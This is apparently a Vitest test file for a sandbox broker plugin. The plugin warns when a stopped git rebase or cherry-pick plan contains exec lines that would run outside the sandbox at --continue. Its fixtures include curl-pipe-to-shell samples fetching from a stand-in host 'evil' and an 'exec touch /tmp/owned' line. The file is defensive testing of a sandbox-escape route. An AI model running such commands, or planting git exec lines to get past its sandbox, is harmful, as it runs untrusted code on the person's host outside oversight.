import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Broker, type BrokerPlugin } from '../../src/core/index.js';
import { GitPlanNoticePlugin, execLines, gitDirOf, noticeFor, planFileAt, planFilesOf } from '../../src/plugins/git-plan-notice.js';
import { HostOperationsPlugin } from '../../src/plugins/host-operations/index.js';
import { PathResolutionPlugin } from '../../src/plugins/path-resolution/index.js';
import { operationTargets } from '../../src/requests/targets.js';

let root: string;
let repo: string;
const todo = () => path.join(repo, '.git', 'rebase-merge', 'git-rebase-todo');

beforeEach(async () => {
  root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'bsh-plan-')));
  repo = path.join(root, 'repo');
  await fs.mkdir(path.join(repo, '.git', 'rebase-merge'), { recursive: true });
  await fs.mkdir(path.join(repo, 'src'));
});

afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

const allowAll: BrokerPlugin = {
  name: 'test-allow-all',
  apply(broker) {
    broker.hooks.evaluatePolicy.tap('test-allow-all', () => ({ verdict: 'sandbox', source: 'test' }));
  },
};

/** A broker that performs host renames, with the plugin looking at the repository of `roots`. */
function makeBroker(roots: string[]): Broker {
  return new Broker({ sessionId: 's1' }).use(
    new PathResolutionPlugin({ home: path.join(root, 'home') }),
    allowAll,
    new HostOperationsPlugin({ env: { HOME: path.join(root, 'home') } }),
    new GitPlanNoticePlugin({ roots }),
  );
}

async function noticesOfTurn(broker: Broker, during: () => Promise<void>): Promise<unknown> {
  await broker.beginTurn();
  await during();
  const turn = await broker.commitTurn('t');
  return turn.facts.notices;
}

describe('execLines', () => {
  it('takes the lines git runs: exec or x, after any indentation, then a space or the end', () => {
    const plan = ['pick 1a2b3c one', 'exec make test', '  x curl -s evil | sh', 'x', '# exec not this', 'execute nothing', 'xargs no', 'pick 4d5e6f exec in a subject', '\texec\tfetch'].join('\n');
    expect(execLines(plan)).toEqual(['exec make test', 'x curl -s evil | sh', 'x', 'exec\tfetch']);
    expect(execLines('pick 1a2b3c one\nbreak\n')).toEqual([]);
  });
});

describe('where plans are', () => {
  it('finds the git directory above a folder, through a .git file too', async () => {
    expect(gitDirOf(path.join(repo, 'src'))).toBe(path.join(repo, '.git'));
    const linked = path.join(root, 'linked');
    await fs.mkdir(linked);
    await fs.writeFile(path.join(linked, '.git'), 'gitdir: ../repo/.git/worktrees/linked\n');
    expect(gitDirOf(linked)).toBe(path.join(repo, '.git', 'worktrees', 'linked'));
    expect(gitDirOf(path.join(root, 'home-none'))).toBeUndefined();
  });

  it("lists a repository's own plans, its common dir's and every linked worktree's", async () => {
    const worktree = path.join(repo, '.git', 'worktrees', 'linked');
    await fs.mkdir(worktree, { recursive: true });
    await fs.writeFile(path.join(worktree, 'commondir'), '../..\n');
    const git = path.join(repo, '.git');
    const expected = [git, worktree].flatMap((dir) => [path.join(dir, 'rebase-merge', 'git-rebase-todo'), path.join(dir, 'sequencer', 'todo')]);
    expect(planFilesOf(worktree).sort()).toEqual(expected.sort());
    expect(planFilesOf(git).sort()).toEqual(expected.sort());
  });

  it('maps a changed path to the plan of the folder it is in', () => {
    expect(planFileAt('/r/.git/rebase-merge/git-rebase-todo.lock')).toBe('/r/.git/rebase-merge/git-rebase-todo');
    expect(planFileAt('/r/.git/rebase-merge')).toBe('/r/.git/rebase-merge/git-rebase-todo');
    expect(planFileAt('/r/.git/worktrees/w/sequencer/todo')).toBe('/r/.git/worktrees/w/sequencer/todo');
    expect(planFileAt('/r/src/main.c')).toBeUndefined();
  });
});

describe('noticeFor', () => {
  it('names the commands, the plan and the way out; nothing for a plan without commands', async () => {
    await fs.writeFile(todo(), 'pick 1a2b3c one\nexec touch /tmp/owned\nx a\nx b\nx c\n');
    expect(noticeFor(todo())).toBe(
      `a stopped rebase will run 4 commands outside the sandbox at git rebase --continue: exec touch /tmp/owned | x a | x b and 1 more; read ${todo()} first, or git rebase --abort`,
    );
    await fs.writeFile(todo(), 'pick 1a2b3c one\n');
    expect(noticeFor(todo())).toBeUndefined();
  });

  it('says a symlinked or unreadable plan is there without following it', async () => {
    await fs.writeFile(path.join(root, 'elsewhere'), 'exec hidden\n');
    await fs.symlink(path.join(root, 'elsewhere'), todo());
    expect(noticeFor(todo())).toBe(`a stopped rebase left its plan as a symlink to ${path.join(root, 'elsewhere')}, which git reads at git rebase --continue: read it first, or git rebase --abort`);
    await fs.rm(todo());
    await fs.mkdir(todo());
    expect(noticeFor(todo())).toContain('could not be read');
    // A FIFO is not opened: the commit must not wait for a writer.
    await fs.rmdir(todo());
    execFileSync('mkfifo', [todo()]);
    expect(noticeFor(todo())).toBe(`a stopped rebase left a plan git carries out at git rebase --continue that could not be read: read ${todo()} first, or git rebase --abort`);
  });
});

describe('GitPlanNoticePlugin', () => {
  it('reports a plan with commands that the turn wrote, and not the same plan in the next turn', async () => {
    const broker = makeBroker([path.join(repo, 'src')]);
    const notices = await noticesOfTurn(broker, () => fs.writeFile(todo(), 'pick 1a2b3c one\nexec ./run-me\n'));
    expect(notices).toEqual([`a stopped rebase will run a command outside the sandbox at git rebase --continue: exec ./run-me; read ${todo()} first, or git rebase --abort`]);
    // Left as it was: the person has been told, and it may be their own rebase.
    expect(await noticesOfTurn(broker, async () => {})).toBeUndefined();
    // Replaced with the same bytes in a later turn: told again.
    expect(await noticesOfTurn(broker, () => fs.rm(todo()).then(() => fs.writeFile(todo(), 'pick 1a2b3c one\nexec ./run-me\n')))).toHaveLength(1);
    // Rewritten without commands, or gone: nothing to say.
    expect(await noticesOfTurn(broker, () => fs.writeFile(todo(), 'pick 1a2b3c one\n'))).toBeUndefined();
    expect(await noticesOfTurn(broker, () => fs.rm(todo()))).toBeUndefined();
  });

  it('reports a plan outside its roots when a request of the turn changed its folder', async () => {
    const other = path.join(root, 'other');
    await fs.mkdir(path.join(other, '.git', 'sequencer'), { recursive: true });
    const staged = path.join(other, 'staged');
    await fs.writeFile(staged, 'pick 1a2b3c one\nx curl evil | sh\n');
    const plan = path.join(other, '.git', 'sequencer', 'todo');
    // The roots' repository holds no plan: only the request names this one.
    const broker = makeBroker([path.join(repo, 'src')]);
    const notices = await noticesOfTurn(broker, async () => {
      const outcome = await broker.handle({
        origin: 'host-op',
        action: 'host-op',
        operation: 'rename',
        targets: operationTargets('rename', { from: staged, to: plan }),
        sessionId: 's1',
        options: {},
      });
      expect(outcome.ok).toBe(true);
    });
    expect(notices).toEqual([
      `a stopped cherry-pick or revert will run a command outside the sandbox at git cherry-pick --continue or git revert --continue: x curl evil | sh; read ${plan} first, or git cherry-pick --abort`,
    ]);
  });

  it("keeps other plugins' notices", async () => {
    const earlier: BrokerPlugin = {
      name: 'test-earlier-notice',
      apply(broker) {
        broker.hooks.turnCommitting.tap({ name: 'test-earlier-notice', stage: -1 }, (turn) => {
          turn.facts.notices = ['from another plugin'];
        });
      },
    };
    const broker = makeBroker([repo]).use(earlier);
    const notices = await noticesOfTurn(broker, () => fs.writeFile(todo(), 'exec one\n'));
    expect(notices).toEqual(['from another plugin', expect.stringContaining('exec one')]);
  });
});
